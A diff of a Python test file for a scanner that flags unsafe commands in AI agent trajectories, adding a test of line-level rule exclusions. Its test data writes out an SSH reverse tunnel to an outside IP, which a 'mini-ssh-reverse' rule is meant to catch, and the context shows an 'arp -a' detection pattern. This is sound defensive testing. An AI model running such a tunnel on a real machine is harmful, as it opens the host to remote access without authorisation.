@@ -8,7 +8,7 @@ from safefilter.rules.model import builtin_pack_paths, load_pack, load_packs
 from safefilter.rules.testing import check_rules
 from safefilter.scanner import RuleDetector
 
-from conftest import bash, rule_ids, traj
+from conftest import bash, call, rule_ids, traj
 
 MINI = Path(__file__).parent / "data" / "mini_pack.yaml"
 BUILTIN_RULES = [r for p in load_packs(["builtin"]) for r in p.rules]
@@ -139,3 +139,10 @@ def test_macros_expand_and_undefined_macros_are_errors(tmp_path):
     pack.write_text(text.replace("any: ['\\barp -a\\b']", "any: ['\\b{{nope}}\\b']"))
     with pytest.raises(RuleError, match="undefined macro"):
         load_pack(pack)
+
+
+def test_exclusions_apply_to_the_line_of_the_match():
+    scanner = Scanner.from_rules([MINI])
+    script = "#!/bin/sh\nman ssh -R 1\nssh -fNR 9000:localhost:22 u@203.0.113.9\n"
+    assert "mini-ssh-reverse" in rule_ids(scanner.scan(traj(call("write_file", {"path": "t.sh", "content": script}))))
+    assert not scanner.scan(traj(bash("man ssh -R 1"))).unsafe
